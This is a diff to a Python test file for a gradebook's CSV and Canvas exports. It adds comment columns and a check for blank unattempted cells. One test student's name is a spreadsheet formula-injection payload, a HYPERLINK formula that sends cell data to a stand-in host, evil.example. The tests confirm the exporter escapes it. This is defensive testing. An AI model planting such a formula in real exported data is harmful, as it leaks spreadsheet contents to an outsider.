@@ -56,18 +56,19 @@ def test_gradebook_csv_one_row_per_student(api: TestClient, people: People, grad
     table = rows(api, people, graded, "gradebook.csv")
     assert table[0] == ["name", "email", "section", "status",
                         "Multi-head attention (multi-head-attention) [10]",
-                        SOFTMAX_COLUMN, "total [15]"]  # fmt: skip
+                        SOFTMAX_COLUMN, "total [15]", f"comment ({MHA})", f"staff note ({MHA})",
+                        f"comment ({SOFTMAX})", f"staff note ({SOFTMAX})"]  # fmt: skip
     by_email = {r[1]: r for r in table[1:]}
     assert by_email["student@example.edu"] == [
-        "Student", "student@example.edu", "A", "active", "10", "2", "12",
+        "Student", "student@example.edu", "A", "active", "10", "2", "12", "", "", "", "",
     ]  # fmt: skip
     assert by_email["student_b@example.edu"] == [
         "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "student_b@example.edu", "B",
-        "active", "6", "0", "6",
+        "active", "6", "0", "6", "", "", "", "",
     ]  # fmt: skip
     # In no section: an empty section cell, and no attempt is no points.
     assert by_email["unsectioned@example.edu"] == [
-        "Unsectioned", "unsectioned@example.edu", "", "active", "0", "0", "0",
+        "Unsectioned", "unsectioned@example.edu", "", "active", "0", "0", "0", "", "", "", "",
     ]  # fmt: skip
     assert len(table) == 4
     only_a = rows(api, people, graded, "gradebook.csv", section="A")
@@ -103,6 +104,8 @@ def test_canvas_csv_layout(api: TestClient, people: People, graded: int) -> None
     body = {r[3]: r for r in table[2:]}
     assert body["student@example.edu"] == ["Student", "", "", "student@example.edu", "A", "12"]
     assert body["student_b@example.edu"][0].startswith("'=")
+    # Never attempted anything: blank, not a 0 that would overwrite Canvas's mark.
+    assert body["unsectioned@example.edu"][5] == ""
     with_id = rows(api, people, graded, "canvas.csv", canvas_assignment_id="4242")
     assert with_id[0][5] == '\'=Homework, "one" (4242)'
 
